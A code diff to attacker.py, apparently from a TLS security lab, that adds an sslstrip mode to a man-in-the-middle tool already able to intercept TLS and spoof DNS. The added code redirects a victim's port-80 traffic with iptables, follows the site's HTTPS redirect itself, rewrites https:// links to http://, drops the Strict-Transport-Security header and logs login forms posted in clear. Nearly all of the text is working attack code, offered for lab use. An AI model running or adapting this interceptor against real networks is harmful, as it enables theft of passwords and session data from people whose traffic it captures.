@@ -10,6 +10,14 @@ Here it stops forwarding some of them and answers itself:
         that answers NAME with ADDR). The proxy presents the attacker's own
         certificate for the name the client asked for, relays to the real
         server, and writes everything it read in clear to its log.
+    attacker.py start --client ADDR --server ADDR --strip
+        sslstrip (Marlinspike, 2009): only the client's plain HTTP (port 80)
+        is taken. The attacker speaks HTTPS to the site itself, follows its
+        redirect to https:// on the client's behalf, and answers the client
+        in plain HTTP with every https:// link turned into http:// and the
+        Strict-Transport-Security header dropped; the login form then posts
+        the password to the attacker in clear. Port 443 is left alone: a
+        client that goes to https:// by itself (HSTS) passes untouched.
     attacker.py stop
         removes the rules and stops the proxy; prints the log as JSON lines.
 
@@ -37,7 +45,10 @@ STATE = Path(os.environ.get("WIRE_STATE", "/run/wire"))
 PIDFILE = STATE / "attacker.pid"
 LOG = STATE / "attacker.log"
 PROXY_PORT = 8443
+STRIP_PORT = 8080
 DNS_PORT = 5353
+SO_ORIGINAL_DST = 80          # linux/netfilter_ipv4.h: where a REDIRECTed connection was going
+REDIRECTS = (301, 302, 303, 307, 308)
 CERTS = Path("/attacker")
 
 
@@ -49,7 +60,7 @@ def log(event: dict) -> None:
 
 # -- the TLS interceptor ----------------------------------------------------------
 
-def read_request(tls: ssl.SSLSocket) -> bytes:
+def read_request(tls: socket.socket) -> bytes:
     data = b""
     while b"\r\n\r\n" not in data:
         chunk = tls.recv(65536)
@@ -110,6 +121,101 @@ def proxy(server: str) -> None:
     while True:
         conn, peer = listener.accept()
         threading.Thread(target=intercept, args=(conn, peer, server, context), daemon=True).start()
+
+
+# -- sslstrip ---------------------------------------------------------------------
+
+def original_destination(conn: socket.socket) -> str:
+    """The address the client was connecting to before iptables REDIRECTed it here."""
+    raw = conn.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)         # a struct sockaddr_in
+    return socket.inet_ntoa(raw[4:8])
+
+
+def fetch(address: str, host: str, method: str, target: str, body: bytes, tls: bool
+          ) -> tuple[int, list[tuple[str, str]], bytes]:
+    """One request to the site at ADDRESS as the attacker makes it: over TLS (port 443, SNI HOST, no
+    certificate check: the attacker does not care who the site is) or plain (port 80); HTTP/1.0, so
+    the answer is never chunked. Returns the status, the header fields and the body."""
+    head = [f"{method} {target} HTTP/1.0", f"Host: {host}", "User-Agent: tlslab-browser/1"]
+    if body:
+        head += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(body)}"]
+    data = b""
+    with socket.create_connection((address, 443 if tls else 80), timeout=5) as raw:
+        sock = raw
+        if tls:
+            context = ssl.create_default_context()
+            context.check_hostname = False
+            context.verify_mode = ssl.CERT_NONE
+            sock = context.wrap_socket(raw, server_hostname=host)
+        with sock:
+            sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode() + body)
+            while True:
+                chunk = sock.recv(65536)
+                if not chunk:
+                    break
+                data += chunk
+    top, _, content = data.partition(b"\r\n\r\n")
+    lines = top.decode("latin-1").split("\r\n")
+    status = int(lines[0].split()[1]) if len(lines[0].split()) > 1 and lines[0].split()[1].isdigit() else 502
+    fields = [(name.strip(), value.strip()) for name, _, value in (line.partition(":") for line in lines[1:])]
+    return status, fields, content
+
+
+SECURE_HOSTS: set[str] = set()      # hosts seen redirecting to https:// (sslstrip keeps such a list)
+
+
+def strip(conn: socket.socket, peer: tuple[str, int]) -> None:
+    """One plain-HTTP request of the victim: passed on as the site wants it, answered stripped."""
+    client = f"{peer[0]}:{peer[1]}"
+    with conn:
+        try:
+            request = read_request(conn)
+            address = original_destination(conn)
+        except OSError as exc:
+            if peer[0] != "127.0.0.1":            # not our own readiness probe
+                log({"event": "request failed", "client": client, "error": str(exc)})
+            return
+        if not request:
+            return
+        log({"event": "request in clear", "client": client, "request": request.decode("latin-1")})
+        head, _, body = request.partition(b"\r\n\r\n")
+        lines = head.decode("latin-1").split("\r\n")
+        method, target = (lines[0].split() + ["GET", "/"])[:2]
+        host = next((line.split(":", 1)[1].strip() for line in lines[1:] if line.lower().startswith("host:")),
+                    address)
+        try:
+            # As the client asked (plain), unless this host is known to want https.
+            status, fields, content = fetch(address, host, method, target, body, tls=host in SECURE_HOSTS)
+            for _ in range(5):        # the site's redirect to https://: followed here, never shown
+                location = next((v for k, v in fields if k.lower() == "location"), "")
+                if status not in REDIRECTS or not location.startswith(f"https://{host}/"):
+                    break
+                SECURE_HOSTS.add(host)
+                log({"event": "followed the redirect to https itself", "client": client, "location": location})
+                status, fields, content = fetch(address, host, "GET", location[len(f"https://{host}"):], b"",
+                                                tls=True)
+        except OSError as exc:
+            log({"event": "upstream failed", "client": client, "error": str(exc)})
+            conn.sendall(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+            return
+        links = content.count(b"https://")
+        content = content.replace(b"https://", b"http://")
+        dropped = [k for k, _ in fields if k.lower() == "strict-transport-security"]
+        kept = [(k, v.replace("https://", "http://")) for k, v in fields
+                if k.lower() not in ("strict-transport-security", "content-length", "connection")]
+        answer = [f"HTTP/1.1 {status} {'OK' if status == 200 else 'stripped'}", *(f"{k}: {v}" for k, v in kept),
+                  f"Content-Length: {len(content)}", "Connection: close"]
+        conn.sendall(("\r\n".join(answer) + "\r\n\r\n").encode("latin-1") + content)
+        log({"event": "response stripped", "client": client, "status": status,
+             "links rewritten to http": links, "headers dropped": dropped,
+             "response": content.decode("latin-1")[:2000]})
+
+
+def stripper() -> None:
+    listener = socket.create_server(("0.0.0.0", STRIP_PORT), backlog=64)
+    while True:
+        conn, peer = listener.accept()
+        threading.Thread(target=strip, args=(conn, peer), daemon=True).start()
 
 
 # -- the DNS spoofer --------------------------------------------------------------
@@ -184,21 +290,25 @@ def _start(args: argparse.Namespace) -> dict:
         if args.spoof_dns:
             name, _, address = args.spoof_dns.partition("=")
             threading.Thread(target=spoofer, args=(name.lower(), address), daemon=True).start()
-        proxy(args.server)
+        if args.strip:
+            stripper()
+        else:
+            proxy(args.server)
         os._exit(0)
     PIDFILE.write_text(str(pid))
+    port, taken = (STRIP_PORT, "80") if args.strip else (PROXY_PORT, "443")
     deadline = time.monotonic() + 5
     while time.monotonic() < deadline:             # listening before the rules point at it
         with socket.socket() as probe:
-            if probe.connect_ex(("127.0.0.1", PROXY_PORT)) == 0:
+            if probe.connect_ex(("127.0.0.1", port)) == 0:
                 break
         time.sleep(0.01)
-    iptables("-A", "PREROUTING", "-s", args.client, "-p", "tcp", "--dport", "443",
-             "-j", "REDIRECT", "--to-ports", str(PROXY_PORT))
+    iptables("-A", "PREROUTING", "-s", args.client, "-p", "tcp", "--dport", taken,
+             "-j", "REDIRECT", "--to-ports", str(port))
     if args.spoof_dns:
         iptables("-A", "PREROUTING", "-s", args.client, "-p", "udp", "--dport", "53",
                  "-j", "REDIRECT", "--to-ports", str(DNS_PORT))
-    return {"running": True, "pid": pid, "spoof_dns": args.spoof_dns or None}
+    return {"running": True, "pid": pid, "spoof_dns": args.spoof_dns or None, "strip": args.strip}
 
 
 def stop() -> dict:
@@ -220,6 +330,8 @@ def main(argv: list[str] | None = None) -> int:
     p.add_argument("--client", required=True, help="the victim's address")
     p.add_argument("--server", required=True, help="the real server's address (the proxy relays there)")
     p.add_argument("--spoof-dns", metavar="NAME=ADDR", help="answer the victim's DNS query for NAME with ADDR")
+    p.add_argument("--strip", action="store_true",
+                   help="sslstrip: take the victim's plain HTTP (port 80) instead of its TLS, and strip https://")
     p.add_argument("--turn", required=True, metavar="TOKEN", help="the run's turn (wirectl turn --token)")
     sub.add_parser("stop", help="remove the rules, stop, and print the attacker's log")
     args = parser.parse_args(argv)
